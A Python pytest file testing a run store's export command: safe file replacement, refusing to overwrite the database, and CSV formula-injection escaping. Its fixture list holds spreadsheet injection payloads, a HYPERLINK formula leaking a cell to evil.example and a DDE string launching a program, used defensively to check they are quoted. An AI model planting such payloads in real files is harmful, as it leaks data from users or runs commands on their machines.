"""Exports never hurt the store or an earlier export, CSV cells never run as formulas, and reading
commands never create a store from a mistyped path.
"""

from __future__ import annotations

import os
import resource
import shutil
import signal
import subprocess
import sys

import pyarrow as pa
import pytest

from conftest import ROOT
from factories import exported_rows, rows, run_cli, simple_run, write_jsonl
from runs_store.ingest.pipeline import ingest_paths
from runs_store.services.export import export_bytes, neutralise_formulas
from runs_store.store.database import open_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTAB first",
    "\rCR first",
    "'=already quoted",
]


@pytest.fixture
def store(shared_db, tmp_path) -> os.PathLike:
    db = tmp_path / "runs.duckdb"
    shutil.copy(shared_db, db)
    return db


def runs_in(db) -> int:
    return rows(db, "SELECT count(*) FROM runs")[0][0]


# ------------------------------------------------------------------ the store as output


@pytest.mark.parametrize(
    "spelling", ["absolute", "relative", "dotted", "symlink", "hardlink", "wal"]
)
def test_export_refuses_to_write_over_the_store_however_it_is_named(store, spelling):
    before = runs_in(store)
    folder = store.parent
    output = {
        "absolute": str(store),
        "relative": store.name,
        "dotted": f"./../{folder.name}/{store.name}",
        "symlink": "link.csv",
        "hardlink": "hard.csv",
        "wal": store.name + ".wal",
    }[spelling]
    if spelling == "symlink":
        (folder / "link.csv").symlink_to(store)
    if spelling == "hardlink":
        os.link(store, folder / "hard.csv")
    result = run_cli("export", "--db", str(store), "--output", output, cwd=folder)
    assert result.returncode == 2, result.stderr
    assert "is the database itself" in result.stderr and "Traceback" not in result.stderr
    assert runs_in(store) == before
    assert sorted(p.name for p in folder.iterdir() if p.suffix == ".part") == []


def small_file_limit() -> None:
    """In the child: writing past 64 KB of any file fails with EFBIG, as on a full disk."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (64 * 1024, 64 * 1024))


def test_an_export_that_fails_half_way_leaves_the_earlier_file_as_it_was(store, tmp_path):
    earlier = tmp_path / "failed.csv"
    earlier.write_text("the export of yesterday\n")
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "runs_store",
            "export",
            "--db",
            str(store),
            "--output",
            str(earlier),
        ],
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        timeout=120,
        preexec_fn=small_file_limit,
    )
    assert result.returncode == 2, result.stderr
    assert "File too large" in result.stderr and "Traceback" not in result.stderr
    assert earlier.read_text() == "the export of yesterday\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["failed.csv", "runs.duckdb"]


def test_an_export_replaces_the_file_whole_only_when_it_succeeds(store, tmp_path):
    target = tmp_path / "out.csv"
    target.write_text("old\n")
    assert run_cli("export", "--db", str(store), "--output", str(target)).returncode == 0
    exported = csv_rows(target.read_bytes())
    assert len(exported) == rows(store, "SELECT count(*) FROM runs WHERE archived_at IS NULL")[0][0]
    assert not list(tmp_path.glob(".out.csv.*"))


def test_export_into_a_folder_is_refused_with_a_message(store, tmp_path):
    result = run_cli("export", "--db", str(store), "--output", str(tmp_path))
    assert result.returncode == 2 and "is a directory" in result.stderr


# ------------------------------------------------------------------ reading commands and --db


@pytest.mark.parametrize(
    "command", [["export"], ["rejects"], ["export", "--format", "jsonl", "--output", "x.jsonl"]]
)
def test_a_reading_command_with_a_mistyped_db_creates_nothing(tmp_path, command):
    missing = tmp_path / "typo" / "runz.duckdb"
    result = run_cli(*command, "--db", str(missing), cwd=tmp_path)
    assert result.returncode == 2
    assert f"no database at {missing}" in result.stderr and "Traceback" not in result.stderr
    assert list(tmp_path.iterdir()) == []


# ------------------------------------------------------------------ CSV formula injection


@pytest.fixture
def formula_store(tmp_path):
    records = [
        simple_run(
            f"f-{n}",
            flow=text,
            status="FAILED",
            failedStep={"name": "step_1", "displayName": text, "message": text},
        )
        for n, text in enumerate(FORMULAS)
    ]
    db = tmp_path / "formulas.duckdb"
    ingest_paths(db, [write_jsonl(tmp_path / "formulas.jsonl", records)])
    return db


def csv_rows(data: bytes) -> list[dict]:
    return exported_rows(data, "csv")


def exported_unmasked_csv(db, out) -> bytes:
    """`export` of every run to `out` as CSV, error messages as recorded; its bytes."""
    result = run_cli(
        "export", "--db", str(db), "--output", str(out), env={"RUNS_MASK_SECRETS": "0"}
    )
    assert result.returncode == 0, result.stderr
    return out.read_bytes()


@pytest.mark.parametrize("how", ["cli", "page download"])
def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(formula_store, tmp_path, how):
    if how == "cli":
        out = tmp_path / "out.csv"
        data = exported_unmasked_csv(formula_store, out)
    else:
        with open_db(formula_store, read_only=True) as con:
            data = export_bytes(con, "csv", mask=False)
    exported = {row["id"]: row for row in csv_rows(data)}
    for number, text in enumerate(FORMULAS):
        row = exported[f"f-{number}"]
        for column in ("flow", "failed_step_display", "error_message"):
            assert row[column] == "'" + text, (column, row[column])
        assert row["failed_step"] == "step_1"


def test_numbers_and_booleans_stay_unquoted_in_csv(formula_store):
    with open_db(formula_store, read_only=True) as con:
        data = export_bytes(con, "csv", mask=False).decode()
    first = data.splitlines()[1]
    assert ',0,"step_1",false,' in first  # duration_ms 0, archived false: not text cells


def test_neutralising_leaves_safe_text_numbers_and_nulls_alone():
    batch = pa.RecordBatch.from_pydict(
        {
            "text": ["plain", "=1", None, "a=b", "", "'plain", "''+x"],
            "number": [-1, 2, None, 4, 5, 6, 7],
        }
    )
    out = neutralise_formulas(batch).to_pydict()
    assert out["text"] == ["plain", "'=1", None, "a=b", "", "'plain", "'''+x"]
    assert out["number"] == [-1, 2, None, 4, 5, 6, 7]


def test_a_neutralised_csv_loads_back_as_the_same_runs(formula_store, tmp_path):
    out = tmp_path / "out.csv"
    exported_unmasked_csv(formula_store, out)
    again = tmp_path / "again.duckdb"
    summary = ingest_paths(again, [out])
    assert summary.rejected == 0
    query = "SELECT id, flow_name, failed_step_display, error_message FROM runs ORDER BY id"
    assert rows(again, query) == rows(formula_store, query)
